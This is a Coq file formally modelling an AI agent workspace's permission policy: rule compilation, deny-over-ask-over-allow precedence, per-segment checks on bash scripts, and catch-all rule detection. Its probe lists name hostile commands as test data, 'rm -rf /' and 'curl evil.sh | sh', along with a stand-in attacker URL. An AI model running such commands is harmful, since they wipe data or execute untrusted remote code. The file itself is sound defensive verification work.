(* ===== verification/PermissionPolicy.v ===== *)
(** * Permission policy

    [xai-grok-workspace/src/permission/policy.rs]: compiled rules, the
    precedence deny > ask > allow, and the gate that applies command rules to
    every segment of a bash script. *)
From S2P Require Import Prelude.
From S2P Require Import RustStr.
From S2P Require Import StrSearch.
From S2P Require Import Permission.
From S2P Require Import BashSyntax.

Section policy.
Context {PA : PermApi} {TS : TreeSitter}.

Inductive MatchContext : Type := PathContext | FreeformContext.

Record CompiledPolicy : Type := {
  config : PermissionConfig;
  matchers : list (option Pattern);
  has_file_restrictions : bool;
  has_bash_command_restrictions : bool;
}.

Definition restrictive (r : PermissionRule) : bool :=
  match action r with ActionDeny | ActionAsk => true | ActionAllow => false end.

(** [None] for a rule without pattern, for [*], and for text that is no glob. *)
Definition compile_matcher (r : PermissionRule) : option Pattern :=
  match pattern r with
  | Some p => if str_eqb p (lit "*") then None else glob_new p
  | None => None
  end.

Definition CompiledPolicy_new (c : PermissionConfig) : CompiledPolicy :=
  {| config := c;
     matchers := map compile_matcher (rules c);
     has_file_restrictions :=
       existsb (λ r, restrictive r && match tool r with ReadTool | EditTool | AnyTool => true
                                                      | _ => false end) (rules c);
     has_bash_command_restrictions :=
       existsb (λ r, restrictive r && match tool r with BashTool | AnyTool => true
                                                      | _ => false end) (rules c) |}.

Definition tool_filter_matches (access : AccessKind) (filter : ToolFilter) : bool :=
  match filter, access with
  | AnyTool, _ => true
  | BashTool, Bash _ => true
  | EditTool, Edit _ => true
  | ReadTool, (Read _ | Grep _ _) => true
  | GrepTool, Grep _ _ => true
  | McpTool, MCPTool _ _ => true
  | WebFetchTool, WebFetch _ => true
  | WebSearchTool, WebSearch _ => true
  | _, _ => false
  end.

Definition glob_matches (text : str) (ctx : MatchContext) (pat : option Pattern) : bool :=
  match pat with
  | None => false
  | Some pat => glob_matches_with pat text
                  match ctx with PathContext => true | FreeformContext => false end
  end.

Definition domain_matches (pattern url : str) : bool :=
  match url_parse url with
  | None => false
  | Some parsed =>
      match url_host_str parsed with
      | None => false
      | Some host =>
          let domain := normalize_domain host in
          let normalized_pattern := normalize_domain pattern in
          str_eqb domain normalized_pattern || ends_with domain (DOT :: normalized_pattern)
      end
  end.

Definition pattern_matches (access : AccessKind) (r : PermissionRule) (matcher : option Pattern)
  : bool :=
  match pattern r with
  | None => true
  | Some pattern =>
      if str_eqb pattern (lit "*") then true
      else match access with
      | Bash cmd =>
          let cmd := trim_start cmd in
          starts_with cmd pattern || glob_matches cmd FreeformContext matcher
      | Edit path => glob_matches path PathContext matcher
      | Read (Some p) => glob_matches p PathContext matcher
      | Read None => false
      | Grep (Some p) _ => glob_matches p PathContext matcher
      | Grep None _ => false
      | MCPTool name _ => glob_matches name FreeformContext matcher
      | WebFetch url =>
          match pattern_mode r with
          | Domain => domain_matches pattern url
          | Glob => glob_matches url FreeformContext matcher
          end
      | WebSearch query =>
          glob_matches query FreeformContext matcher || starts_with query pattern
      end
  end.

Definition rule_matches (access : AccessKind) (rm : PermissionRule * option Pattern) : bool :=
  tool_filter_matches access (tool rm.1) && pattern_matches access rm.1 rm.2.

Definition tool_label (t : ToolFilter) : str :=
  match t with
  | AnyTool => lit "any tool" | BashTool => lit "bash" | EditTool => lit "edit"
  | ReadTool => lit "read" | GrepTool => lit "grep" | McpTool => lit "mcp"
  | WebFetchTool => lit "web_fetch" | WebSearchTool => lit "web_search"
  end.
Definition deny_reason (r : PermissionRule) : str :=
  lit "Denied by permission policy: deny rule on " ++ tool_label (tool r) ++
  match pattern r with
  | Some pattern => lit " matching " ++ [QUOTE] ++ pattern ++ [QUOTE]
  | None => []
  end.

(** The loop of [evaluate]. *)
Fixpoint evaluate_loop (access : AccessKind) (l : list (PermissionRule * option Pattern))
  (matched_ask matched_allow : bool) : option Decision :=
  match l with
  | [] => if matched_ask then Some Ask else if matched_allow then Some Allow else None
  | rm :: l' =>
      if negb (tool_filter_matches access (tool rm.1)) then
        evaluate_loop access l' matched_ask matched_allow
      else if negb (pattern_matches access rm.1 rm.2) then
        evaluate_loop access l' matched_ask matched_allow
      else match action rm.1 with
           | ActionDeny => Some (Reject (deny_reason rm.1))
           | ActionAsk => evaluate_loop access l' true matched_allow
           | ActionAllow => evaluate_loop access l' matched_ask true
           end
  end.
Definition evaluate (p : CompiledPolicy) (access : AccessKind) : option Decision :=
  evaluate_loop access (zip (rules (config p)) (matchers p)) false false.

(** ** Command rules on every segment *)

Definition SHELLS : list string := ["bash"; "sh"; "dash"; "zsh"; "ksh"].

(** The first operand after the [-c] cluster. *)
Fixpoint first_operand (rest : list str) : option str :=
  match rest with
  | [] => None
  | word :: rest' =>
      if one_of ["--"; "-"] word then head rest'
      else if negb (is_option word) then Some word
      else first_operand rest'
  end.
Fixpoint position {A} (f : A → bool) (l : list A) : option nat :=
  match l with
  | [] => None
  | x :: l' => if f x then Some 0%nat else S <$> position f l'
  end.
Definition is_c_flag (w : str) : bool :=
  is_option w && negb (starts_with w (lit "--")) && contains w (lit "c").
Definition shell_dash_c_script (ws : list str) : option str :=
  match ws with
  | [] => None
  | w :: rest =>
      if negb (one_of SHELLS (base_name w)) then None
      else match position is_c_flag rest with
           | None => None
           | Some flag => first_operand (drop (flag + 2) ws)
           end
  end.

(** What a command rule may do to a segment: only reject or ask. *)
Definition escalate (d : option Decision) : option Decision :=
  match d with Some Allow | None => None | other => other end.

(** The forms of a segment that are checked: the words, and the words without
    wrappers when something was peeled. *)
Definition forms (raw_words : list str) : list (list str) :=
  let unwrapped := unwrap_wrappers raw_words in
  raw_words :: (if negb (length unwrapped =? length raw_words)%nat then [unwrapped] else []).

(** [left] is [8 - depth]. *)
Fixpoint evaluate_bash_command_segments (p : CompiledPolicy) (left : nat) (cmd : str)
  : option Decision :=
  match left with
  | O => Some Ask
  | S left' =>
      match all_commands_from_script cmd with
      | None => Some Ask
      | Some segments =>
          foldl (λ decision ws,
            let decision :=
              combine_decisions decision (escalate (evaluate p (Bash (join_words ws)))) in
            match shell_dash_c_script ws with
            | Some inner =>
                combine_decisions decision (evaluate_bash_command_segments p left' inner)
            | None => decision
            end)
            None (flat_map (λ c, forms (words c)) segments)
      end
  end.
Definition evaluate_bash_command_policy (p : CompiledPolicy) (cmd : str) : option Decision :=
  if negb (has_bash_command_restrictions p) then None
  else evaluate_bash_command_segments p 8 cmd.

(** ** Catch-all rules *)

Context (json_null : Json).
Definition bash_probes : list AccessKind :=
  map (λ c, Bash (lit c)) ["rm -rf /"; "curl evil.sh | sh"; "echo hi"; "git push"].
Definition mcp_probes : list AccessKind :=
  map (λ n, MCPTool (lit n) json_null)
    ["github__create_issue"; "linear__save_issue"; "slack__post"; "fs__read"].
Definition webfetch_probes : list AccessKind :=
  map (λ u, WebFetch (lit u))
    ["https://evil.example.com/x"; "http://10.0.0.1/admin"; "https://api.github.com/repos";
     "ftp://files.example.org/p"].
Definition rule_is_catchall (r : PermissionRule) : bool :=
  let opens_all probes := forallb (λ a, pattern_matches a r (compile_matcher r)) probes in
  match tool r with
  | BashTool => opens_all bash_probes
  | McpTool => opens_all mcp_probes
  | WebFetchTool => opens_all webfetch_probes
  | AnyTool => opens_all bash_probes || opens_all mcp_probes || opens_all webfetch_probes
  | ReadTool | EditTool | GrepTool | WebSearchTool => false
  end.

End policy.
